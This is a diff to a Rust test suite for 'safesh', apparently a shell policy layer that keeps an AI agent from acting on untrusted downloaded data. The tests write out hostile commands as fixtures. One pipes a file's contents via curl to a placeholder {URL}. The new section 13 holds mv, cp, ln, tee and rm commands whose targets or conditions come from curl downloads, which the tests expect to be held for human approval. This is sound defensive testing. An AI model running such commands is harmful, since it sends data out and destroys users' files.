@@ -3,7 +3,7 @@
 //! shape on clean data that works. Run: `cargo test -p safesh --test safesh flow_sound`.
 
 use crate::flow::{exfil, injection, pwned_created};
-use crate::flow_support::{Arena, FLOW};
+use crate::flow_support::{APPROVAL, Arena, FLOW};
 
 // ---- 1. counts are as secret as what they count -------------------------------
 
@@ -171,4 +171,87 @@ fn exfil_refused_stage_makes_no_empty_post_downstream() {
         r#"python3 -c 'import sys; print(open(sys.argv[1]).read())' public.txt | curl -s --data-urlencode v@- {URL}/p"#,
         Some("hello"),
     );
+}
+
+// ---- 13. untrusted words naming what a command destroys -------------------------
+
+/// The destructive attack is refused for a human's approval with nothing
+/// destroyed; the control (the same command on a name the agent wrote) runs.
+fn destroy(attack: &str, ctrl: &str, ctrl_check: impl Fn(&Arena, &crate::policy_support::Run)) {
+    injection(attack, APPROVAL, ctrl, ctrl_check);
+}
+
+#[test]
+fn destroy_mv_of_a_downloaded_source_name() {
+    destroy(
+        r#"f=$(curl -s {URL}/list.txt | head -1); mv "$f" gone.txt"#,
+        r#"f=keep1.txt; mv "$f" gone.txt"#,
+        |a, r| {
+            assert!(
+                a.exists("gone.txt") && !a.exists("keep1.txt"),
+                "{}",
+                r.dump()
+            )
+        },
+    );
+}
+
+#[test]
+fn destroy_cp_ln_tee_over_a_downloaded_name() {
+    for (attack, ctrl) in [
+        (
+            r#"f=$(curl -s {URL}/list.txt | head -1); cp public.txt "$f""#,
+            r#"f=keep1.txt; cp public.txt "$f""#,
+        ),
+        (
+            r#"f=$(curl -s {URL}/list.txt | head -1); ln -sf public.txt "$f""#,
+            r#"f=keep1.txt; ln -sf public.txt "$f""#,
+        ),
+        (
+            r#"f=$(curl -s {URL}/list.txt | head -1); tee "$f" < public.txt"#,
+            r#"f=keep1.txt; tee "$f" < public.txt"#,
+        ),
+        (
+            r#"mkdir -p keepdir; d=$(curl -s {URL}/dirname); cp -t "$d" public.txt"#,
+            r#"mkdir -p keepdir; d=keepdir; cp -t "$d" public.txt"#,
+        ),
+    ] {
+        destroy(attack, ctrl, |a, r| {
+            assert!(a.exists("public.txt"), "{}", r.dump())
+        });
+    }
+}
+
+#[test]
+fn destroy_under_a_downloaded_condition_deletes_only_with_approval() {
+    // An untrusted PC alone gates deletion and replacement of existing files.
+    destroy(
+        r#"if curl -s {URL}/list.txt | grep -q keep; then rm keep1.txt; fi"#,
+        r#"if echo keep | grep -q keep; then rm keep1.txt; fi"#,
+        |a, r| assert!(!a.exists("keep1.txt"), "{}", r.dump()),
+    );
+    destroy(
+        r#"curl -s {URL}/list.txt | grep -q keep && mv public.txt keep1.txt"#,
+        r#"echo keep | grep -q keep && mv public.txt keep1.txt"#,
+        |a, r| assert!(!a.exists("public.txt"), "{}", r.dump()),
+    );
+}
+
+#[test]
+fn benign_writes_to_agent_named_paths_under_a_downloaded_condition() {
+    // Writing is not destroying: no approval, and the written file carries the label.
+    let a = Arena::new();
+    for script in [
+        "curl -s -o dl.txt {URL}/list.txt && sed -i s/keep/kept/ dl.txt",
+        "curl -s {URL}/list.txt | grep -q keep && echo x > public.txt",
+        "curl -s {URL}/list.txt | grep -q keep && echo y >> public.txt",
+        "curl -s {URL}/list.txt | grep -q keep && tee out.txt < README.md > /dev/null",
+        "curl -s {URL}/list.txt | grep -q keep && mv out.txt moved.txt",
+        "curl -s {URL}/list.txt | grep -q keep && cp README.md new.txt",
+    ] {
+        a.run(script).assert_ok();
+    }
+    assert!(a.exists("moved.txt") && a.exists("new.txt"));
+    let r = a.run("cat dl.txt");
+    r.assert_ok_with("kept1.txt\nkept2.txt\n");
 }
